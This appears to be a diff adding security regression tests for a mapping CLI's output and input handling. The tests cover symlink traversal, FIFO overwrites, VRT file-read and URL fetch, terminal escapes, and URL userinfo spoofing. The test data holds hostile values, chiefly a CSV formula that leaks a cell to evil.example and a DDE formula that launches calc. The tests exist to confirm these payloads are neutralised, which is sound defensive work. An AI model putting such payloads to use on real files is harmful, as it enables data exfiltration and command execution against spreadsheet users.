@@ -583,3 +583,336 @@ def test_build_after_a_kill_removes_its_stale_temporary_file(user):
     assert proc.returncode == 0, proc.stderr
     assert not stale.exists() and other.exists()
     assert (user / "2005.html").read_bytes().endswith(b"</html>\n")
+
+
+# -- 6. the adversarial probe (issue #31) ---------------------------------------
+#
+# Each test stages one of the probe's attacks inside the test's own folder
+# (victims, FIFOs and device nodes included) and fails on the code before
+# the fix.
+
+
+def layer_with(tmp_path: Path, file: str = "layer.geojson", **props) -> Path:
+    """The sample layer with ``props`` set on every feature."""
+    import json
+
+    layer = json.loads(SAMPLE.read_text(encoding="utf-8"))
+    for feature in layer["features"]:
+        feature["properties"].update(props)
+    path = tmp_path / file
+    path.write_text(json.dumps(layer), encoding="utf-8")
+    return path
+
+
+def edit_manifest(out: Path, **files) -> None:
+    import json
+
+    path = out / ".basemap-manifest.json"
+    manifest = json.loads(path.read_text())
+    manifest["files"].update(files)
+    path.write_text(json.dumps(manifest))
+
+
+def test_d1_a_manifest_entry_through_a_linked_folder_is_left_alone(tmp_path):
+    out, elsewhere = tmp_path / "out", tmp_path / "elsewhere"
+    export(out, first=2005, last=2005, data=SAMPLE)
+    elsewhere.mkdir()
+    victim = elsewhere / "victim.txt"
+    victim.write_text("not basemap's")
+    (out / "old").symlink_to(elsewhere, target_is_directory=True)
+    edit_manifest(out, **{"old/victim.txt": {"sha256": None, "size": None}})
+    export(out, first=2005, last=2005, data=SAMPLE)
+    assert victim.read_text() == "not basemap's"
+
+
+@pytest.mark.parametrize("force", [False, True])
+def test_d1_w7_a_linked_sites_folder_is_never_written_through(tmp_path, force):
+    out, foreign = tmp_path / "out", tmp_path / "foreign"
+    export(out, first=2005, last=2005, data=SAMPLE)
+    (out / "sites").rename(foreign)
+    (out / "sites").symlink_to(foreign, target_is_directory=True)
+    for page in foreign.glob("*.html"):
+        page.write_text("a foreign page")
+    before = snapshot(foreign)
+    with pytest.raises(OutputError) as info:
+        export(out, first=2005, last=2005, data=SAMPLE, title="Again", force=force)
+    assert "sites" in str(info.value)
+    assert snapshot(foreign) == before
+    assert (out / "sites").is_symlink()
+
+
+def test_w6_stale_removal_checks_the_recorded_hash(tmp_path):
+    out = tmp_path / "out"
+    export(out, first=2005, last=2006, data=SAMPLE)
+    notes = out / "notes.txt"
+    notes.write_text("the user's notes")
+    edit_manifest(out, **{"notes.txt": {"sha256": "0" * 64, "size": 16}})
+    (out / "2006.html").write_text("edited by hand")
+    result = export(out, first=2005, last=2005, data=SAMPLE)
+    assert notes.read_text() == "the user's notes"
+    assert (out / "2006.html").read_text() == "edited by hand"
+    assert any("2006.html" in w for w in result.warnings), result.warnings
+
+
+def test_d7_a_dangling_lock_link_creates_nothing_outside(tmp_path):
+    out, elsewhere = tmp_path / "out", tmp_path / "elsewhere"
+    out.mkdir()
+    elsewhere.mkdir()
+    (out / ".basemap.lock").symlink_to(elsewhere / "created-by-lock")
+    proc = run_cli(
+        "export", "--from", "2005", "--to", "2005", "--data", str(SAMPLE),
+        "-o", str(out),
+    )  # fmt: skip
+    assert not (elsewhere / "created-by-lock").exists()
+    assert list(elsewhere.iterdir()) == []
+    assert len(error_lines(proc)) == 1
+    assert ".basemap.lock" in proc.stderr
+
+
+def test_d2_list_o_never_replaces_a_fifo_or_device(tmp_path):
+    targets = {"myfifo": stat.S_ISFIFO}
+    os.mkfifo(tmp_path / "myfifo")
+    if os.geteuid() == 0:  # root: a null device of the test's own
+        os.mknod(tmp_path / "mynull", 0o666 | stat.S_IFCHR, os.makedev(1, 3))
+        targets["mynull"] = stat.S_ISCHR
+    for name, kind in targets.items():
+        for force in ([], ["--force"]):
+            proc = run_cli(
+                "list", "--year", "2005", "--data", str(SAMPLE), "--format", "csv",
+                "-o", str(tmp_path / name), *force,
+            )  # fmt: skip
+            assert len(error_lines(proc)) == 1, proc.stderr
+            assert kind(os.lstat(tmp_path / name).st_mode), name
+
+
+def test_d2_w5_list_o_replaces_only_its_own_files(tmp_path):
+    report = tmp_path / "report.csv"
+    report.write_text("my important spreadsheet\n")
+    args = ["list", "--year", "2005", "--data", str(SAMPLE), "-o", str(report)]
+    proc = run_cli(*args)
+    assert len(error_lines(proc)) == 1
+    assert "--force" in proc.stderr
+    assert report.read_text() == "my important spreadsheet\n"
+    assert run_cli(*args, "--force").returncode == 0
+    assert report.read_text().startswith("site,")
+    assert run_cli(*args).returncode == 0  # now basemap's own: replaced
+
+
+def test_d3_a_vrt_named_gpkg_reads_nothing_else_and_fetches_nothing(tmp_path):
+    import http.server
+    import threading
+
+    secret = tmp_path / "secret.csv"
+    secret.write_text("id,name\nleak,SECRET-CONTENT-FROM-ANOTHER-FILE\n")
+    hits: list[str] = []
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):
+            hits.append(self.path)
+            self.send_response(404)
+            self.end_headers()
+
+        do_HEAD = do_GET  # noqa: N815 (http.server names it)
+
+        def log_message(self, *args):
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        url = f"/vsicurl/http://127.0.0.1:{server.server_port}/secret.csv"
+        for source in (str(secret), url):
+            evil = tmp_path / "evil.gpkg"
+            evil.write_text(
+                "<OGRVRTDataSource><OGRVRTLayer name='l'>"
+                f"<SrcDataSource>{source}</SrcDataSource>"
+                "</OGRVRTLayer></OGRVRTDataSource>"
+            )
+            proc = run_cli("list", "--year", "2005", "--data", str(evil))
+            assert "SECRET" not in proc.stdout + proc.stderr
+            assert len(error_lines(proc)) >= 1
+            assert "evil.gpkg" in proc.stderr
+    finally:
+        server.shutdown()
+    assert hits == []
+
+
+def test_d4_a_long_site_id_is_refused_before_writing(tmp_path):
+    layer = layer_with(tmp_path, site="a" * 251)
+    out = tmp_path / "out"
+    validate = run_cli("validate", str(layer))
+    assert validate.returncode == 1 and "Traceback" not in validate.stderr
+    proc = run_cli(
+        "export", "--from", "2005", "--to", "2005", "--data", str(layer),
+        "-o", str(out),
+    )  # fmt: skip
+    assert len(error_lines(proc)) >= 1
+    assert not out.exists() or list(out.iterdir()) == []
+
+
+def test_d5_a_control_character_in_title_is_refused(tmp_path):
+    out = tmp_path / "2005.html"
+    proc = run_cli(
+        "build", "--year", "2005", "--data", str(SAMPLE), "--title",
+        "Bases\x0b2005", "-o", str(out),
+    )  # fmt: skip
+    assert proc.returncode == 2 and "Traceback" not in proc.stderr
+    assert "U+000B" in proc.stderr
+    assert not out.exists()
+
+
+def test_d6_a_shapefile_edit_in_its_dbf_is_exported_again(tmp_path):
+    import json
+
+    from .io.test_vector import sample, write_table
+
+    shp = tmp_path / "s.shp"
+    layer = sample()
+    # a Shapefile cell holds 254 bytes: the sources of a short row only
+    layer["features"] = [
+        f
+        for f in layer["features"]
+        if len(json.dumps(f["properties"]["sources"])) < 250
+    ]
+    write_table(layer, shp, driver="ESRI Shapefile")
+    out = tmp_path / "out"
+    export(out, first=2005, last=2005, data=shp)
+    geometry = shp.read_bytes()
+    for feature in layer["features"]:
+        feature["properties"]["name"] += " EDITED"
+    write_table(layer, shp, driver="ESRI Shapefile")
+    assert shp.read_bytes() == geometry  # only the .dbf changed
+    export(out, first=2005, last=2005, data=shp)
+    assert " EDITED" in (out / "2005.html").read_text(encoding="utf-8")
+
+    dbf = (tmp_path / "s.dbf").read_bytes()
+    for force in ([], ["--force"]):
+        proc = run_cli(
+            "list", "--year", "2005", "--data", str(shp), "--format", "csv",
+            "-o", str(tmp_path / "s.dbf"), *force,
+        )  # fmt: skip
+        assert len(error_lines(proc)) == 1
+    assert (tmp_path / "s.dbf").read_bytes() == dbf
+
+
+def test_d6_a_geopackage_wal_is_an_input(tmp_path):
+    from basemap.io.load import side_files
+
+    gpkg = tmp_path / "l.gpkg"
+    gpkg.write_bytes(b"")
+    wal = tmp_path / "l.gpkg-wal"
+    wal.write_bytes(b"")
+    assert wal in side_files(gpkg)
+
+
+def test_d8_a_browser_that_does_not_start_is_one_line_and_writes_nothing(tmp_path):
+    fake = tmp_path / "fakechrome"
+    fake.write_text("#!/bin/sh\nexit 127\n")
+    fake.chmod(0o755)
+    out = tmp_path / "out"
+    inject = f"import os\nos.environ['BASEMAP_CHROMIUM'] = {str(fake)!r}\n"
+    proc = run_cli(
+        "export", "--from", "2005", "--to", "2005", "--data", str(SAMPLE),
+        "--format", "html,png", "-o", str(out), inject=inject,
+    )  # fmt: skip
+    assert len(error_lines(proc)) == 1
+    assert not out.exists() or not any(out.glob("*.html"))
+
+
+def test_d9_csv_cells_a_spreadsheet_would_run_are_quoted(tmp_path):
+    import csv
+    import io
+
+    layer = layer_with(
+        tmp_path,
+        name='=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        kind="@SUM(1+1)*cmd|' /C calc'!A0",
+    )
+    proc = run_cli("list", "--year", "2005", "--data", str(layer), "--format", "csv")
+    assert proc.returncode == 0, proc.stderr
+    rows = list(csv.DictReader(io.StringIO(proc.stdout)))
+    assert rows and all(r["name"].startswith("'=HYPERLINK") for r in rows)
+    assert all(r["kind"].startswith("'@SUM") for r in rows)
+    assert all(float(r["longitude"]) > 60 for r in rows)  # numbers stay numbers
+    out = tmp_path / "out"
+    export(out, first=2002, last=2005, data=layer)
+    changes = (out / "changes.csv").read_text(encoding="utf-8")
+    cells = [c for row in csv.reader(io.StringIO(changes)) for c in row]
+    assert not any(c[:1] in ("=", "+", "@", "\t", "\r") for c in cells)
+    assert any(c.startswith("'=HYPERLINK") for c in cells)
+
+
+def test_d10_no_escape_sequence_reaches_the_terminal(tmp_path):
+    layer = layer_with(tmp_path, name="\x1b]0;PWNED\x07\x1b[2J")
+    for args in (
+        ["list", "--year", "2005", "--data"],
+        ["validate"],
+        ["build", "--year", "2005", "--data"],
+    ):
+        proc = run_cli(*args, str(layer), cwd=tmp_path)
+        assert "\x1b" not in proc.stdout + proc.stderr
+        assert "\x07" not in proc.stdout + proc.stderr
+    forged = layer_with(tmp_path, "forged.geojson", name="Kant\nforged | row")
+    proc = run_cli("list", "--year", "2005", "--data", str(forged))
+    assert "\nforged" not in proc.stdout + proc.stderr
+
+
+@pytest.mark.parametrize(
+    "template", ["a#{year}.html", "{year}?.html", "{year}\n.html", "{{year}}.html"]
+)
+def test_w9_a_template_a_link_cannot_hold_is_refused_before_writing(tmp_path, template):
+    out = tmp_path / "out"
+    proc = run_cli(
+        "export", "--from", "2005", "--to", "2006", "--data", str(SAMPLE),
+        "--template", template, "-o", str(out),
+    )  # fmt: skip
+    assert proc.returncode == 2 and "Traceback" not in proc.stderr
+    assert not out.exists()
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "https://x.example/maps?a=1",
+        "https://x.example/maps#frag",
+        "https://trusted.example@evil.example/",
+    ],
+)
+def test_w10_a_base_url_with_query_fragment_or_userinfo_is_refused(tmp_path, url):
+    out = tmp_path / "out"
+    proc = run_cli(
+        "export", "--from", "2005", "--to", "2005", "--data", str(SAMPLE),
+        "--base-url", url, "-o", str(out),
+    )  # fmt: skip
+    assert proc.returncode == 2 and "Traceback" not in proc.stderr
+    assert not out.exists()
+
+
+def test_w11_exporting_into_the_data_folder_keeps_it_readable(tmp_path):
+    data = tmp_path / "data"
+    data.mkdir()
+    (data / "layer.geojson").write_bytes(SAMPLE.read_bytes())
+    export(data, first=2005, last=2005, data=data)
+    assert (data / ".basemap-manifest.json").exists()
+    assert validate_layers(data) == []
+    export(data, first=2005, last=2005, data=data)
+
+
+@pytest.mark.parametrize("size", [["--width", "0"], ["--height", "0"]])
+def test_w12_a_zero_size_is_refused(tmp_path, size):
+    proc = run_cli(
+        "export", "--from", "2005", "--to", "2005", "--data", str(SAMPLE),
+        "--format", "png", *size, "-o", str(tmp_path / "out"),
+    )  # fmt: skip
+    assert proc.returncode == 2 and "Traceback" not in proc.stderr
+    assert not (tmp_path / "out").exists()
+
+
+def test_w15_csv_coordinates_are_plain_decimals(tmp_path):
+    from basemap.io.load import strict_float
+
+    for text in ("6_7.31", "inf", "nan", "0x1p3", "1e400"):
+        with pytest.raises(ValueError):
+            strict_float(text)
+    assert strict_float("-67.31") == -67.31
+    assert strict_float("4.2e1") == 42.0
